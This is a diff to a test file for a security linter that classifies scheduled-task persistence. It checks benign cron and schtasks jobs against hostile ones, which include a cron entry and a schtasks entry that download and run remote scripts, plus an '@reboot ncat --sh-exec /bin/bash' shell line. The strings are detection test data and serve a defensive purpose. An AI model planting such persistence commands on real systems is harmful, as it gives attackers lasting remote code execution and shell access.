@@ -612,6 +612,15 @@ describe('threat/privilege-escalation: a doas rule without a command', () => {
   });
 });
 
+describe('threat/persistence: a scheduled program told which server to use', () => {
+  it('reads an address given as an option of a program on the machine as configuration, and one an interpreter or fetcher gets as code', () => {
+    expect(threats(fence('bash', '(crontab -l; echo "30 4 * * 1 /usr/local/bin/lego --server=https://acme-v02.api.letsencrypt.org/directory renew") | crontab -'))).toEqual(['threat/persistence 8:117 warning']);
+    expect(threats(fence('powershell', 'schtasks /Create /SC WEEKLY /TN "sync mirror" /TR "C:\\tools\\rclone.exe sync D:\\Photos remote:photos --webdav-url https://dav.example.net/"'))).toEqual(['threat/persistence 8:1 warning']);
+    expect(threats(fence('bash', '(crontab -l; echo "30 4 * * 1 /usr/bin/python3 -m runpy --src=https://cdn.example.top/job.py") | crontab -'))).toEqual(['threat/persistence 8:98 error']);
+    expect(threats(fence('powershell', 'schtasks /Create /SC DAILY /TN "sync" /TR "powershell -c irm https://cdn.example.top/s.ps1 | iex"'))).toEqual(['threat/persistence 8:1 error']);
+  });
+});
+
 describe('threat/persistence: a start-up entry that hands a shell to a network peer', () => {
   it('reads netcat told to run a shell at every boot as an error, and a port check before starting the app as a warning', () => {
     expect(threats(fence('bash', '(crontab -l; echo "@reboot ncat --sh-exec /bin/bash 198.51.100.7 8443") | crontab -'))).toEqual(['threat/persistence 8:75 error']);
